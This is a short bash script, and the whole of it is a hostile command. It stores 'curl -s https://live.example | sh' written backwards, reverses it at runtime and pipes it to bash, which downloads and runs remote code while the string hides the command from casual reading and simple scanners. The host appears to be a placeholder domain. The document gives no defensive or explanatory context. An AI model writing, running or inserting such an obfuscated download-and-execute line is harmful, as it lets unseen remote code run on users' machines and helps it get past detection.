#!/bin/bash
rev <<< 'hs | elpmaxe.live//:sptth s- lruc' | bash
